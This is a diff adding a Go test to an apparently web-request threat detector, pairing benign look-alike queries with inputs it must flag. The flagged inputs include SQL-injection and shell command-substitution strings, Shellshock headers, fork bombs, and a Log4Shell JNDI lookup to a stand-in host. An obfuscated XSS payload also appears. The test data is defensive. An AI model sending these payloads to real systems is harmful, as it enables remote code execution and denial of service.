@@ -244,3 +244,33 @@ func TestPageHeadMarkup(t *testing.T) {
 		{"body:text", `<STYLE>@im\port'\ja\vasc\ript:alert("XSS")';</STYLE>`},
 	})
 }
+
+// TestSearchesAndSnippets holds classes from the fourth set's flagged benign records:
+// searches that start with a file or tool name, names with an apostrophe, scripts'
+// own substitutions, JavaScript that looks like a bash function, elided lookups.
+func TestSearchesAndSnippets(t *testing.T) {
+	d := newTestDetector(t)
+	wantClean(t, d, []valueCase{
+		{"query:q", "Val-d'Or"},
+		{"query:q", "which python3"},
+		{"query:q", "web.config transform"},
+		{"query:q", ".env file example"},
+		{"body:text", "tar -czf backup-$(date +%F).tar.gz /srv/www"},
+		{"query:q", "$(pwd) vs ${PWD}"},
+		{"body:text", "window.onload = function () { init(); };  // old style, prefer DOMContentLoaded"},
+		{"body:text", "The ${jndi:...} problem was fixed in log4j 2.17; we are on 2.20 so we're fine."},
+	})
+	wantThreats(t, d, []valueCase{
+		{"query:q", "admin' or"},
+		{"query:q", "which nc"},
+		{"query:q", "/.env"},
+		{"query:q", "x$(id)"},
+		{"query:q", "$(sleep 5)"},
+		{"query:q", "$(date;id)"},
+		{"header:User-Agent", "() { :;}; /bin/bash -c id"},
+		{"query:q", "x=() { :;}; echo vulnerable"},
+		{"query:q", "f(){ f|f& };f"},
+		{"query:q", ":(){ :|:& };:"},
+		{"header:X-Api-Version", "${jndi:ldap://x.example/a}"},
+	})
+}
